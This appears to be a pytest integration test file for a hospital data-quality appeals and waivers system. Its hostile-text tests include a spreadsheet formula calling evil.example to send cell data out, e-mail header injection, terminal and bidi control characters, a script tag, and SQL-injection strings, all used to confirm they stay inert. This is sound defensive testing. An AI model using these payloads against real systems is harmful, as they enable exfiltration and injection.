"""Appeals, decisions and waivers on hand-made rule results in the real chDB, checked against
scores and ranks computed by hand; the histories only grow."""

import datetime as dt
import itertools
from zoneinfo import ZoneInfo

import pytest

from expectations.programme.appeals import (
    AppealRefused,
    ResultRef,
    add_waiver,
    decide,
    end_waiver,
    list_appeals,
    list_waivers,
    submit,
)
from expectations.programme.config import load_appeals_config
from expectations.programme.history import load_exemptions
from expectations.programme.rescore import affected, rescore
from expectations.rules.results import write_results
from expectations.rules.rulebase import rulebase
from expectations.scoring.acceptance import acceptance
from expectations.scoring.read import read_acceptance, read_scores
from expectations.scoring.store import score_date
from infra.pipeline import org_registry
from tests.expectations.scoring.test_scoring import complete, res

pytestmark = pytest.mark.integration

_TZ = ZoneInfo("Asia/Shanghai")
D = dt.date(2026, 3, 10)
NEXT = D + dt.timedelta(days=1)
MONTH_LATER = dt.date(2026, 4, 10)
OV = "outpatient_visit"
OFFICER = "qc.wang"
CONFIG = load_appeals_config()
REGISTRY = org_registry()
# Three tertiary hospitals of the sample city's registry (the CLI reads the same registry),
# and one secondary hospital outside their peer group.
A, B, C = sorted(o.org_code for o in REGISTRY.organisations.values() if o.level == "tertiary")[:3]
S = sorted(o.org_code for o in REGISTRY.organisations.values() if o.level == "secondary")[0]
RULES = {r.id for r in rulebase().rules} | set(rulebase().types)
# Real rule ids (waivers name the rule base): a passed one and a failed one of type `required`
PASSED_RULE, FAILED_RULE = "visit_id.required", "patient_id.required"


def at(day: dt.date, hour: int = 10, minute: int = 0) -> dt.datetime:
    return dt.datetime(day.year, day.month, day.day, hour, minute, tzinfo=_TZ)


def day_results(day, run, weights):
    """Per organisation (passed weight, failed weight): one completeness batch each, whose
    score is 100 x passed / (passed + failed); the composite equals it (one dimension)."""
    out = []
    for code, (passed, failed) in weights.items():
        out += [
            res(code, OV, day, PASSED_RULE, "completeness", passed, "passed", run=run),
            res(code, OV, day, FAILED_RULE, "completeness", failed, "failed", run=run),
        ]
    return out


# A 70, B 80, C 90 on D and the day after: ranks C 1, B 2, A 3.
WEIGHTS = {A: (7, 3), B: (8, 2), C: (9, 1)}


def _city(ch, dates=(D, NEXT), weights=WEIGHTS):
    for i, day in enumerate(dates):
        write_results(ch, day_results(day, f"r{i}", weights))
        complete(ch, day, f"r{i}", minute=i)
        score_date(ch, REGISTRY, day, exemptions=load_exemptions(ch))


def scores(ch, day):
    return {r["org_code"]: r for r in read_scores(ch, day)}


def ranks(ch, day, column="rank"):
    return {code: r[column] for code, r in scores(ch, day).items()}


def events(ch):
    return (
        ch.query("SELECT * FROM dq.appeal_event ORDER BY appeal_id, at, event").result_rows,
        ch.query("SELECT * FROM dq.waiver_event ORDER BY waiver_id, at, event").result_rows,
    )


def appeal_a(ch, now=None, org=None, **kw):
    ref = ResultRef(
        kw.pop("of", org or A), kw.pop("day", D), OV, kw.pop("rule", f"{OV}.{FAILED_RULE}")
    )
    return submit(
        ch,
        REGISTRY,
        CONFIG,
        org or A,
        ref,
        kw.pop("reason", "the visits had no patient id by design: walk-in vaccinations"),
        "his.zhou",
        now or at(D + dt.timedelta(days=2)),
    )


def test_config_names_the_window_and_the_officers(tmp_path):
    from contracts.loader import ContractError

    assert CONFIG.window.days_after_business_date == 10
    assert CONFIG.last_day(D) == dt.date(2026, 3, 20)
    assert CONFIG.decisions.role == "quality_officer" and OFFICER in CONFIG.decisions.people
    path = tmp_path / "appeals.yaml"
    for text, message in {
        "window: {days_after_business_date: -1}\ndecisions: {role: q, people: [x]}": (
            "window.days_after_business_date: Input should be greater than or equal to 0"
        ),
        "window: {days_after_business_date: 10}\ndecisions: {role: q, people: []}": (
            "decisions.people: "
        ),
        "window: {days_after_business_date: 10}\ndecisions: {role: q, people: [x, x]}": (
            "a person is named twice"
        ),
        "window: {days_after_business_date: 10}\n": "decisions: Field required",
    }.items():
        path.write_text(text, encoding="utf-8")
        with pytest.raises(ContractError) as err:
            load_appeals_config(path)
        assert str(err.value).startswith(f"{path}: ") and message in str(err.value)


def test_an_approved_appeal_moves_the_composite_and_the_ranks_as_computed_by_hand(rt):
    ch = rt.ch
    _city(ch, dates=(D, NEXT, MONTH_LATER))
    assert {c: r["composite"] for c, r in scores(ch, D).items()} == {A: 70.0, B: 80.0, C: 90.0}
    assert ranks(ch, D) == {C: 1, B: 2, A: 3}
    assert ranks(ch, NEXT, "rank_change_day") == {A: 0, B: 0, C: 0}
    assert scores(ch, NEXT)[A]["persisting_failures"] == 1
    acceptance(ch, REGISTRY, D)
    appeal = appeal_a(ch)
    assert (appeal["event"], appeal["org_code"], appeal["batch_version"], appeal["run_id"]) == (
        "submitted",
        A,
        1,
        "r0",
    )
    decided = decide(
        ch,
        CONFIG,
        appeal["appeal_id"],
        "approved",
        "confirmed",
        OFFICER,
        at(D, 18) + dt.timedelta(days=2),
    )
    assert decided["event"] == "approved"
    done = rescore(ch, REGISTRY, D, D)
    # D itself, the day after (rank_change_day) and the same day a month later (rank_change_month)
    assert done.dates == (D, NEXT, MONTH_LATER) and done.months == (dt.date(2026, 3, 1),)

    # By hand: A's failed weight 3 is waived, its batch is 7 / 7 passed -> 100; B and C keep
    # 80 and 90. Ranks: A 1, C 2, B 3 (a rival, C, drops from 1 to 2; B from 2 to 3).
    after = scores(ch, D)
    assert {c: r["composite"] for c, r in after.items()} == {A: 100.0, B: 80.0, C: 90.0}
    assert ranks(ch, D) == {A: 1, C: 2, B: 3}
    assert (after[A]["rules_failed"], after[A]["rules_waived"]) == (0, 1)
    assert (after[B]["rules_failed"], after[B]["rules_waived"]) == (1, 0)
    # The next day is unchanged (A 70 again) but its rank changes compare with the new D:
    # A was 1 and is 3 (-2), C was 2 and is 1 (+1), B was 3 and is 2 (+1).
    assert ranks(ch, NEXT) == {C: 1, B: 2, A: 3}
    assert ranks(ch, NEXT, "rank_change_day") == {A: -2, B: 1, C: 1}
    assert ranks(ch, MONTH_LATER, "rank_change_month") == {A: -2, B: 1, C: 1}
    # A waived failure is not failing: on D nothing of A's fails, so on the day after its
    # failure is new again, not persisting (B's persists).
    assert (after[A]["new_failures"], after[A]["persisting_failures"]) == (0, 0)
    following = scores(ch, NEXT)
    assert (following[A]["new_failures"], following[A]["persisting_failures"]) == (1, 0)
    assert (following[B]["new_failures"], following[B]["persisting_failures"]) == (0, 1)
    # Acceptance of March judges D with A at 100 and the day after at 70.
    march = {r["org_code"]: r for r in read_acceptance(ch, D)}
    assert march[A]["days_at_bar"] == 1 and march[A]["days_judged"] == 2
    # Scoring the date again (the daily stage after a late upload) keeps the appeal.
    score_date(ch, REGISTRY, D, exemptions=load_exemptions(ch))
    assert ranks(ch, D) == {A: 1, C: 2, B: 3}
    assert list_appeals(ch, org_code=A)[0]["status"] == "approved"


def test_a_rejected_appeal_changes_nothing(rt):
    ch = rt.ch
    _city(ch)
    before = {d: read_scores(ch, d) for d in (D, NEXT)}
    runs = ch.query("SELECT count() FROM dq.score_run").result_rows
    appeal = appeal_a(ch)
    decide(
        ch,
        CONFIG,
        appeal["appeal_id"],
        "rejected",
        "the rule applies to walk-ins",
        OFFICER,
        at(D, 18) + dt.timedelta(days=3),
    )
    assert load_exemptions(ch).appeals == {}
    for day in (D, NEXT):
        score_date(ch, REGISTRY, day, exemptions=load_exemptions(ch))
        again = read_scores(ch, day)
        assert [{k: v for k, v in r.items() if k != "computed_at"} for r in again] == [
            {k: v for k, v in r.items() if k != "computed_at"} for r in before[day]
        ]
    assert ch.query("SELECT count() FROM dq.score_run").result_rows[0][0] == runs[0][0] + 2
    [row] = list_appeals(ch, status="rejected")
    assert (row["decided_by"], row["comment"], row["reason"]) == (
        OFFICER,
        "the rule applies to walk-ins",
        "the visits had no patient id by design: walk-in vaccinations",
    )
    # A rejected appeal may be followed by a new one within the window: its last day, late
    # in the evening, is still in it.
    again = appeal_a(ch, now=at(D + dt.timedelta(days=10), 23, 59))
    assert again["appeal_id"] != appeal["appeal_id"]


def test_appeals_are_refused_with_their_reason(rt):
    ch = rt.ch
    _city(ch, dates=(D,))
    cases = [
        (
            dict(now=at(D + dt.timedelta(days=11), 0, 1)),
            "window for appeals of 2026-03-10 closed at the end of 2026-03-20",
        ),
        (dict(of=B), f"{A} may appeal only its own results: this result is {B}'s"),
        (dict(rule=f"{OV}.{PASSED_RULE}"), "is passed, not failed"),
        (dict(rule=f"{OV}.nothing.required"), "no result outpatient_visit.nothing.required"),
        (dict(day=NEXT), "2026-03-11 has no complete validation run"),
        (dict(reason="  "), "the reason is empty"),
        (dict(org="NOT-AN-ORG"), "NOT-AN-ORG is not an organisation"),
    ]
    for kwargs, message in cases:
        with pytest.raises(AppealRefused, match=message.replace("(", r"\(")):
            appeal_a(ch, **kwargs)
    assert events(ch) == ([], [])
    first = appeal_a(ch, now=at(D + dt.timedelta(days=3)))
    with pytest.raises(AppealRefused, match=f"appeal {first['appeal_id']} of this result"):
        appeal_a(ch, now=at(D + dt.timedelta(days=3), 10, 1))
    decide_cases = [
        (("ap-nope", "approved", "ok", OFFICER), "no appeal 'ap-nope'"),
        ((first["appeal_id"], "approved", " ", OFFICER), "the comment is empty"),
        ((first["appeal_id"], "approved", "ok", "his.zhou"), "'his.zhou' may not decide appeals"),
        ((first["appeal_id"], "maybe", "ok", OFFICER), "a decision is one of approved, rejected"),
    ]
    late = at(D + dt.timedelta(days=5))
    for args, message in decide_cases:
        with pytest.raises(AppealRefused, match=message):
            decide(ch, CONFIG, *args, late)
    decide(ch, CONFIG, first["appeal_id"], "approved", "ok", OFFICER, late)
    with pytest.raises(
        AppealRefused, match=f"appeal {first['appeal_id']} was already approved by qc.wang"
    ):
        decide(
            ch,
            CONFIG,
            first["appeal_id"],
            "rejected",
            "changed my mind",
            OFFICER,
            late + dt.timedelta(hours=1),
        )
    for when in (D + dt.timedelta(days=9), D + dt.timedelta(days=4)):  # also a clock before it
        with pytest.raises(AppealRefused, match=f"is already waived \\({first['appeal_id']}\\)"):
            appeal_a(ch, now=at(when))


def test_history_only_grows(rt):
    ch = rt.ch
    _city(ch)
    snapshots = [events(ch)]
    appeal = appeal_a(ch)
    snapshots.append(events(ch))
    decide(ch, CONFIG, appeal["appeal_id"], "approved", "ok", OFFICER, at(D + dt.timedelta(days=3)))
    snapshots.append(events(ch))
    waiver = add_waiver(
        ch,
        REGISTRY,
        CONFIG,
        RULES,
        "required",
        D,
        None,
        "outage",
        OFFICER,
        at(D + dt.timedelta(days=3), 11),
        peer_group="tertiary",
    )
    snapshots.append(events(ch))
    end_waiver(
        ch, CONFIG, waiver["waiver_id"], NEXT, "restored", OFFICER, at(D + dt.timedelta(days=4))
    )
    snapshots.append(events(ch))
    for earlier, later in itertools.pairwise(snapshots):
        for table in (0, 1):
            assert set(earlier[table]) <= set(later[table])
        assert sum(map(len, later)) == sum(map(len, earlier)) + 1
    assert [len(t) for t in snapshots[-1]] == [2, 2]


def test_a_peer_group_waiver_covers_past_and_future_dates_until_it_ends(rt):
    ch = rt.ch
    weights = WEIGHTS | {S: (1, 1)}
    _city(ch, dates=(D,), weights=weights)
    assert {c: r["composite"] for c, r in scores(ch, D).items()} == {
        A: 70.0,
        B: 80.0,
        C: 90.0,
        S: 50.0,
    }
    refusals = [
        (dict(rule="no_such_rule", peer_group="tertiary"), "'no_such_rule' is neither a rule id"),
        (dict(rule="required", peer_group="quaternary"), "'quaternary' is not a peer group"),
        (dict(rule="required", org_code="NOT-AN-ORG"), "NOT-AN-ORG is not an organisation"),
        (dict(rule="required"), "one organisation \\(--org\\) or one peer group"),
        (
            dict(rule="required", peer_group="tertiary", by="his.zhou"),
            "'his.zhou' may not waive rules",
        ),
        (dict(rule="required", peer_group="tertiary", end=D - dt.timedelta(days=1)), "would end"),
        (dict(rule="required", peer_group="tertiary", reason=""), "the reason is empty"),
    ]
    for kw, message in refusals:
        rule = kw.pop("rule")
        with pytest.raises(AppealRefused, match=message):
            add_waiver(
                ch,
                REGISTRY,
                CONFIG,
                RULES,
                rule,
                D,
                kw.pop("end", None),
                kw.pop("reason", "outage"),
                kw.pop("by", OFFICER),
                at(D + dt.timedelta(days=1)),
                **kw,
            )
    # the rule type `required` for the tertiary peer group, from D, open-ended
    waiver = add_waiver(
        ch,
        REGISTRY,
        CONFIG,
        RULES,
        "required",
        D,
        None,
        "HIS outage 3月",
        OFFICER,
        at(D + dt.timedelta(days=1)),
        peer_group="tertiary",
    )
    assert rescore(ch, REGISTRY, D, None).dates == (D,)
    # Both results of the tertiary hospitals are waived (the passed one too): no completeness
    # result is left, so no dimension, no composite, no rank; the secondary hospital keeps 50.
    day = scores(ch, D)
    assert {c: (r["composite"], r["rank"], r["rules_waived"]) for c, r in day.items()} == {
        A: (None, None, 2),
        B: (None, None, 2),
        C: (None, None, 2),
        S: (50.0, 1, 0),
    }
    # A date validated after the waiver was added is waived when it is first scored.
    _city(ch, dates=(NEXT,), weights=weights)
    assert {c: r["rules_waived"] for c, r in scores(ch, NEXT).items()} == {A: 2, B: 2, C: 2, S: 0}
    # Ending it on D: the day after is judged again on every result.
    ended = end_waiver(
        ch, CONFIG, waiver["waiver_id"], D, "HIS back", OFFICER, at(D + dt.timedelta(days=3))
    )
    assert ended["was_end"] is None
    assert rescore(ch, REGISTRY, NEXT, None).dates == (NEXT,)
    assert {c: r["composite"] for c, r in scores(ch, NEXT).items()} == {
        A: 70.0,
        B: 80.0,
        C: 90.0,
        S: 50.0,
    }
    assert {c: r["rules_waived"] for c, r in scores(ch, D).items()} == {A: 2, B: 2, C: 2, S: 0}
    [listed] = list_waivers(ch)
    assert (listed["end_date"], listed["ended_by"], listed["end_reason"], listed["reason"]) == (
        D,
        OFFICER,
        "HIS back",
        "HIS outage 3月",
    )
    assert list_waivers(ch, on=NEXT) == [] and len(list_waivers(ch, on=D)) == 1
    with pytest.raises(AppealRefused, match="never extended"):
        end_waiver(
            ch, CONFIG, waiver["waiver_id"], NEXT, "oops", OFFICER, at(D + dt.timedelta(days=4))
        )
    with pytest.raises(AppealRefused, match="no waiver 'wv-nope'"):
        end_waiver(ch, CONFIG, "wv-nope", NEXT, "oops", OFFICER, at(D + dt.timedelta(days=4)))


def test_affected_dates_include_the_rank_changes_that_look_back():
    scored = {
        D - dt.timedelta(days=1),
        D,
        NEXT,
        NEXT + dt.timedelta(days=1),
        MONTH_LATER,
        dt.date(2026, 4, 11),
    }
    assert affected(scored, D, D) == [D, NEXT, MONTH_LATER]
    assert affected(scored, NEXT, None) == [
        NEXT,
        NEXT + dt.timedelta(days=1),
        MONTH_LATER,
        dt.date(2026, 4, 11),
    ]
    # 31 March looks back at 28 February, as do 29 and 30 March
    assert affected(
        {dt.date(2026, 3, d) for d in (28, 29, 30, 31)}, dt.date(2026, 2, 28), dt.date(2026, 2, 28)
    ) == [dt.date(2026, 3, d) for d in (28, 29, 30, 31)]


def test_free_text_is_stored_with_identifiers_masked(rt):
    ch = rt.ch
    _city(ch, dates=(D,))
    appeal = appeal_a(ch, reason="patient 110105194912310022 phoned from 13812345678 <b>")
    assert appeal["text"] == "patient 110*************22 phoned from 138****5678 <b>"
    assert list_appeals(ch)[0]["reason"] == appeal["text"]


def _uploaded(ch):
    """A's file of D as ingestion records it (the e-mail is then feedback, not a reminder)."""
    ch.insert(
        "dq.ingest_file",
        [[A, OV, D, "v.csv", "x", 1, at(D, 1), "csv", "utf-8", "loaded", "", 1, 1, 0, 1]],
        column_names=[
            "org_code",
            "dataset",
            "business_date",
            "file",
            "sha256",
            "size",
            "received_at",
            "format",
            "encoding",
            "status",
            "reason",
            "rows_read",
            "rows_loaded",
            "rows_quarantined",
            "batch_version",
        ],
    )


def test_pages_and_e_mails_show_the_waived_result_and_the_appeals(rt, tmp_path):
    from expectations.publish.feedback import collect
    from expectations.publish.report import write_reports

    ch = rt.ch
    _city(ch, dates=(D,))
    _uploaded(ch)
    approved = appeal_a(ch, reason="walk-ins <b>no id</b>")
    decide(
        ch,
        CONFIG,
        approved["appeal_id"],
        "approved",
        "confirmed",
        OFFICER,
        at(D + dt.timedelta(days=3)),
    )
    rescore(ch, REGISTRY, D, D)
    # the failing keys validation kept: of the waived rule, and of a rule of another run
    keys = [("r0", f"{OV}.{FAILED_RULE}", "V1"), ("r0", f"{OV}.{FAILED_RULE}", "V2")]
    keys += [("r0", f"{OV}.other_rule", "V3")]
    ch.insert(
        "dq.record_issue",
        [[run, A, OV, D, 1, key, "d", rule, "completeness", "warning"] for run, rule, key in keys],
        column_names=[
            "run_id",
            "org_code",
            "dataset",
            "business_date",
            "batch_version",
            "record_key",
            "detail",
            "rule_id",
            "dimension",
            "severity",
        ],
    )
    [fb] = collect(ch, REGISTRY, D, [A])
    assert fb.failures == []  # its one failure is waived
    # the attachment lists no key of the waived result, and the others still
    assert [(i["rule_id"], i["record_key"]) for i in fb.issues] == [(f"{OV}.other_rule", "V3")]
    assert fb.issues_total == 1
    assert [
        (w["rule_id"], w["status"], w["waived_by"], w["kind"], w["why"]) for w in fb.waived
    ] == [
        (f"{OV}.{FAILED_RULE}", "failed", approved["appeal_id"], "appeal", "walk-ins <b>no id</b>")
    ]
    assert [(a["appeal_id"], a["status"]) for a in fb.appeals] == [
        (approved["appeal_id"], "approved")
    ]
    [other] = collect(ch, REGISTRY, D, [B])
    assert other.waived == [] and other.appeals == []
    page = write_reports(ch, REGISTRY, D, tmp_path)["orgs"][A].read_text(encoding="utf-8")
    card = page[page.index("申诉与豁免") :]
    assert approved["appeal_id"] in card and "walk-ins &lt;b&gt;no id&lt;/b&gt;" in card
    assert "本日所有规则均已通过" in page


NOW3 = at(D + dt.timedelta(days=3))
HOSTILE = (
    '=HYPERLINK("http://evil.example/"&A1)\r\nBcc: all@wjw.example.cn\n\x1b[2J'
    "\u202e<script>alert(1)</script>\u2028—申诉"
)


def test_hostile_free_text_stays_text_everywhere_and_huge_text_is_refused(rt, tmp_path):
    """A reason with a formula, a header, terminal and bidi controls, HTML and line breaks is
    stored as given (masked) and shown as text: one line in the plain-text e-mail, escaped in
    HTML; a reason or comment longer than contracts/appeals.yaml allows is refused."""
    from email import message_from_bytes, policy

    from expectations.publish.feedback import collect, compose
    from expectations.publish.report import write_reports

    ch = rt.ch
    _city(ch, dates=(D,))
    _uploaded(ch)
    limit = CONFIG.text.max_chars
    with pytest.raises(AppealRefused, match=f"the reason is longer than {limit} characters"):
        appeal_a(ch, reason="长" * (limit + 1))
    appeal = appeal_a(ch, reason=HOSTILE)
    with pytest.raises(AppealRefused, match=f"the comment is longer than {limit} characters"):
        decide(ch, CONFIG, appeal["appeal_id"], "approved", "x" * (limit + 1), OFFICER, NOW3)
    with pytest.raises(AppealRefused, match=f"the reason is longer than {limit} characters"):
        add_waiver(
            ch,
            REGISTRY,
            CONFIG,
            RULES,
            "required",
            D,
            D,
            "x" * (limit + 1),
            OFFICER,
            NOW3,
            org_code=A,
        )
    assert events(ch)[1] == []
    decide(ch, CONFIG, appeal["appeal_id"], "approved", HOSTILE, OFFICER, NOW3)
    rescore(ch, REGISTRY, D, D)
    [fb] = collect(ch, REGISTRY, D, [A])
    msg = message_from_bytes(compose(fb, "qc@wjw.example.cn").as_bytes(), policy=policy.default)
    assert msg["Bcc"] is None and "Bcc" not in msg
    text = msg.get_body(("plain",)).get_content()
    html = msg.get_body(("html",)).get_content()
    assert "<script>" not in html and "&lt;script&gt;" in html
    lines = [line for line in text.splitlines() if "HYPERLINK" in line]
    assert lines and all("\x1b" not in x and "\u202e" not in x for x in lines)
    assert not any(line.startswith("Bcc:") for line in text.splitlines())
    page = write_reports(ch, REGISTRY, D, tmp_path)["orgs"][A].read_text(encoding="utf-8")
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_another_organisations_result_an_older_run_or_batch_version_is_not_waived(rt):
    """Hostile codes (case, blanks) name no result of the appellant; an approval waives the
    batch version it was of, not the next upload's failure; a result the current run passes
    is not appealed, whatever an older run said."""
    ch = rt.ch
    _city(ch, dates=(D,))
    for kwargs, message in [
        (dict(of=B.lower()), f"may appeal only its own results: this result is {B.lower()}'s"),
        (dict(of=f" {B}"), "may appeal only its own results"),
        (dict(of=f"{A} "), "may appeal only its own results"),
        (dict(org=A.lower(), of=A.lower()), f"{A.lower()} is not an organisation"),
        (dict(org=f"{A}\u200b"), "is not an organisation"),
        # values are bound parameters: a quote is part of a rule id that names nothing
        (dict(rule=f"{OV}.x' OR '1'='1"), "no result outpatient_visit.x' OR '1'='1"),
    ]:
        with pytest.raises(AppealRefused, match=message):
            appeal_a(ch, **kwargs)
    first = appeal_a(ch)
    assert list_appeals(ch, org_code="' OR 1=1 --") == [] == list_waivers(ch, org_code="'--")
    decide(ch, CONFIG, first["appeal_id"], "approved", "ok", OFFICER, NOW3)
    rescore(ch, REGISTRY, D, D)
    assert scores(ch, D)[A]["composite"] == 100.0
    # A uploads again (batch version 2), validated by run r9: the same rule fails again
    again = [
        res(o, OV, D, rule, "completeness", w, status, run="r9", version=2 if o == A else 1)
        for o, (p, f) in WEIGHTS.items()
        for rule, w, status in ((PASSED_RULE, p, "passed"), (FAILED_RULE, f, "failed"))
    ]
    write_results(ch, again)
    complete(ch, D, "r9", minute=30)
    score_date(ch, REGISTRY, D, exemptions=load_exemptions(ch))
    assert scores(ch, D)[A]["composite"] == 70.0  # version 1's approval is not version 2's
    second = appeal_a(ch, now=NOW3 + dt.timedelta(hours=1))
    assert (second["batch_version"], second["run_id"]) == (2, "r9")
    # run r10 passes it: nothing to appeal, whatever r9 said
    write_results(
        ch, [res(A, OV, D, FAILED_RULE, "completeness", 3, "passed", run="r10", version=2)]
    )
    complete(ch, D, "r10", minute=40)
    with pytest.raises(AppealRefused, match=r"is passed, not failed"):
        appeal_a(ch, now=NOW3 + dt.timedelta(hours=2))


@pytest.mark.parametrize("name", [" qc.wang", "QC.WANG", "qc.wang\u200b", "ｑｃ.wang", "qc.wanq"])
def test_a_variant_of_an_officers_name_decides_and_waives_nothing(rt, name):
    ch = rt.ch
    _city(ch, dates=(D,))
    appeal = appeal_a(ch)
    with pytest.raises(AppealRefused, match="may not decide appeals"):
        decide(ch, CONFIG, appeal["appeal_id"], "approved", "ok", name, NOW3)
    with pytest.raises(AppealRefused, match="may not waive rules"):
        add_waiver(ch, REGISTRY, CONFIG, RULES, "required", D, D, "r", name, NOW3, org_code=A)
    assert list_appeals(ch)[0]["status"] == "open" and events(ch)[1] == []


def test_a_result_a_waiver_covers_is_not_appealed_and_a_rejection_may_be_appealed_again(rt):
    ch = rt.ch
    _city(ch, dates=(D,))
    rejected = appeal_a(ch)
    decide(ch, CONFIG, rejected["appeal_id"], "rejected", "no", OFFICER, NOW3)
    again = appeal_a(ch, now=NOW3 + dt.timedelta(minutes=1))  # a new reason, a new record
    assert again["appeal_id"] != rejected["appeal_id"]
    waiver = add_waiver(
        ch,
        REGISTRY,
        CONFIG,
        RULES,
        "required",
        D,
        D,
        "outage",
        OFFICER,
        NOW3,
        peer_group="tertiary",
    )
    with pytest.raises(AppealRefused, match=f"already waived \\({waiver['waiver_id']}\\)"):
        appeal_a(ch, now=NOW3 + dt.timedelta(minutes=2))
    with pytest.raises(AppealRefused, match=f"already waived \\({waiver['waiver_id']}\\)"):
        appeal_a(ch, org=B, now=NOW3 + dt.timedelta(minutes=2))
